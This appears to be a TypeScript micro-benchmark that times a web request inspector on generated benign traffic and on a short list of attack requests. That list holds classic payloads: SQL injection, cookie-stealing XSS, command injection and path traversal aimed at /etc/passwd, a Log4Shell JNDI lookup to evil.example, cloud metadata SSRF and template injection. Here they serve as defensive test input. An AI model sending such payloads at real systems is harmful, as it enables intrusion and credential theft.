/**
 * Micro-benchmark of the inspector alone (no sockets): median and p99 µs per request for benign GETs, benign
 * bodies (POST/PUT/PATCH) and attack requests, on one core, in CPU time (getrusage, µs resolution). Prints JSON.
 *
 *   node --import tsx bench/inspect.ts [--count 4000] [--rounds 3]
 */
import { generateBenignTraffic } from '../scripts/benign-traffic.ts';
import { caseToInput } from '../scripts/corpus-case.ts';
import { detectionConfigSchema } from '../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../src/detection/inspector.ts';

const arg = (name: string, dflt: number): number => {
  const i = process.argv.indexOf(name);
  return i === -1 ? dflt : Number(process.argv[i + 1]);
};
const count = arg('--count', 4000);
const rounds = arg('--rounds', 3);

const ATTACKS: InspectionInput[] = [
  "1' OR '1'='1' --",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}',
].map((p) => ({
  method: 'GET',
  path: '/api/v1/search',
  rawQuery: `q=${encodeURIComponent(p)}&page=2`,
  headers: { host: 'api.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', accept: '*/*' },
  bodyComplete: true,
}));

function measure(inspect: (i: InspectionInput) => unknown, inputs: readonly InspectionInput[]): { median: number; p99: number; mean: number } {
  const times: number[] = [];
  for (let r = 0; r < rounds; r++) {
    for (const input of inputs) {
      // CPU time, not wall time: the shared benchmark machine is oversubscribed, and a descheduled process
      // would otherwise be charged for other processes' work.
      const c0 = process.cpuUsage();
      inspect(input);
      const c = process.cpuUsage(c0);
      times.push(c.user + c.system);
    }
  }
  times.sort((a, b) => a - b);
  const at = (q: number): number => Number(times[Math.min(times.length - 1, Math.floor(q * times.length))]!.toFixed(1));
  return { median: at(0.5), p99: at(0.99), mean: Number((times.reduce((a, b) => a + b, 0) / times.length).toFixed(1)) };
}

const inspector = createInspector(detectionConfigSchema.parse({}));
const cases = generateBenignTraffic(count, 3).map(caseToInput);
const gets = cases.filter((c) => c.body === undefined);
const posts = cases.filter((c) => c.body !== undefined);
const inspect = (i: InspectionInput) => inspector.inspect(i);
measure(inspect, cases.slice(0, 500)); // warm-up: JIT and the clean-header cache
const result = {
  node: process.version,
  requests: { benign: cases.length, get: gets.length, body: posts.length, attack: ATTACKS.length },
  benignAllMicros: measure(inspect, cases),
  benignGetMicros: measure(inspect, gets),
  benignBodyMicros: measure(inspect, posts),
  attackMicros: measure(inspect, Array.from({ length: 200 }, (_, i) => ATTACKS[i % ATTACKS.length]!)),
};
inspector.close();
console.log(JSON.stringify(result, null, 2));
